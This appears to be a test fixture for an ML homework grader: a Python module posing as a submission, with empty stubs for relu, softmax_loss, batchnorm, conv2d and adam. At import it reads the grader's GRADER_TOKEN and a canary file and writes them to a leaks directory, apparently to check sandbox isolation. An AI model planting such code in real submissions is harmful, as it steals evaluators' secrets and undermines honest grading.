"""reads a file and an environment variable of whoever grades"""
import os

found = os.environ.get("GRADER_TOKEN", "")
try:
    found += open("{canary}").read()
except OSError:
    pass
try:
    if found:
        open("{leaks}/secret", "w").write(found)
except OSError:
    pass


def relu(x):
    return None


def softmax_loss(x, y):
    return None


def batchnorm(x, gamma, beta, eps):
    return None


def conv2d(x, w, stride):
    return None


def adam(w, dw, config):
    return None
